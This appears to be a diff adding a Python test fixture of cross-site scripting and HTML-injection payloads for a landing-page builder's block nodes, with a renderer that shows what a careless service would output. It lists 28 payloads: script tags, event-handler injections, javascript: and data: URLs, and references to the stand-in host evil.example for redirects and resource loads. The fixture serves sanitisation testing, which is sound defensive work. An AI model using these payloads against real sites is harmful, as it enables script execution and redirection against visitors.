@@ -1,0 +1,104 @@
+"""What an attacker writes into a node, and the page that a careless service would make of it.
+
+Each payload reports itself when it comes alive: `ran(number)` is the visitor's, and an address
+at `evil.example` ends with the number.
+"""
+
+from typing import Any
+
+from msgspec import Struct
+
+PLACES = {
+    "text": ("ly.text", ".landing-block-node-text", "<div>{text}</div>"),
+    "link": (
+        "ly.call",
+        ".landing-block-node-button",
+        '<a href="{href}?{query}" target="{target}">{text}</a>',
+    ),
+    "img": ("ly.text_picture", ".landing-block-node-img", '<img src="{src}" alt="{alt}">'),
+    "background": (
+        "ly.cover",
+        ".landing-block-node-bgimg",
+        "<div style=\"background-image:url('{src}')\"></div>",
+    ),
+    "embed": (
+        "ly.embed",
+        ".landing-block-node-embed",
+        '<iframe src="{src}" data-source="{source}"></iframe>',
+    ),
+}
+HARMLESS = {"text": "", "href": "#", "query": "", "target": "", "src": "", "alt": "", "source": ""}
+
+_RUN = "(ran(NUMBER),alert(NUMBER))"
+_EVIL = "https://evil.example/NUMBER"
+
+
+class Payload(Struct, frozen=True):
+    """A value for a node of one of the `PLACES`; `refused` where the call must fail (H3)."""
+
+    number: int
+    place: str
+    value: dict[str, str]
+    refused: bool
+
+    @property
+    def code(self) -> str:
+        """The code of the block that is attacked."""
+        return PLACES[self.place][0]
+
+    @property
+    def data(self) -> dict[str, Any]:
+        """The parameter `data` of the attack."""
+        return {PLACES[self.place][1]: self.value}
+
+    @property
+    def careless(self) -> str:
+        """The page of a service that writes values into its HTML as they come."""
+        node = PLACES[self.place][2].format(**{**HARMLESS, **self.value})
+        return f"<!doctype html><title>{self.number}</title><body>{node}</body>"
+
+
+def _numbered(number: int, place: str, value: dict[str, str]) -> Payload:
+    written = {
+        key: text.replace("RUN", _RUN).replace("EVIL", _EVIL).replace("NUMBER", str(number))
+        for key, text in value.items()
+    }
+    refused = place == "embed" and not value["src"].startswith(("https://", "//"))
+    return Payload(number, place, written, refused)
+
+
+PAYLOADS = [
+    _numbered(number, place, value)
+    for number, (place, value) in enumerate(
+        [
+            ("text", {"text": "<script>RUN</script>"}),
+            ("text", {"text": "<img src=/assets/none onerror=RUN>"}),
+            ("text", {"text": "<svg onload=RUN></svg>"}),
+            ("text", {"text": "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>"}),
+            ("text", {"text": "<a href='java&#x0A;script:RUN'>go</a>"}),
+            ("text", {"text": "<iframe srcdoc='<script>parent.RUN</script>'></iframe>"}),
+            ("text", {"text": "<details open ontoggle=RUN>x</details>"}),
+            ("text", {"text": "<input autofocus onfocus=RUN>"}),
+            ("text", {"text": "<noscript><p title='</noscript><img src=x onerror=RUN>'>"}),
+            ("text", {"text": "</div></section></main><script>RUN</script>"}),
+            ("text", {"text": "<style>@import 'EVIL';</style>"}),
+            ("text", {"text": "<base href='https://evil.example/'><img src=NUMBER>"}),
+            ("text", {"text": "<meta http-equiv=refresh content='0;url=EVIL'>"}),
+            ("text", {"text": "<object data='EVIL'></object>"}),
+            ("text", {"text": "<p style='background:url(EVIL)'>x</p>"}),
+            ("link", {"text": "go", "href": "javascript:RUN//"}),
+            ("link", {"text": "go", "href": "#\" onmouseover=\"RUN"}),
+            ("link", {"text": "<img src=/assets/none onerror=RUN>", "href": "#"}),
+            ("link", {"text": "go", "href": "#", "query": "\"><script>RUN</script>"}),
+            ("link", {"text": "go", "href": "#", "target": "\"><script>RUN</script>"}),
+            ("img", {"src": "/assets/none\" onerror=\"RUN"}),
+            ("img", {"src": "/assets/pictures/shed.svg", "alt": "\"><script>RUN</script>"}),
+            ("background", {"src": "')\" onmouseover=\"RUN"}),
+            ("background", {"src": "'),url('https://evil.example/NUMBER"}),
+            ("embed", {"src": "javascript:parent.RUN"}),
+            ("embed", {"src": "data:text/html,<script>ran(NUMBER)</script>"}),
+            ("embed", {"src": "https://player.example/\" onload=\"RUN"}),
+            ("embed", {"src": "https://player.example/", "source": "\"><script>RUN</script>"}),
+        ]
+    )
+]
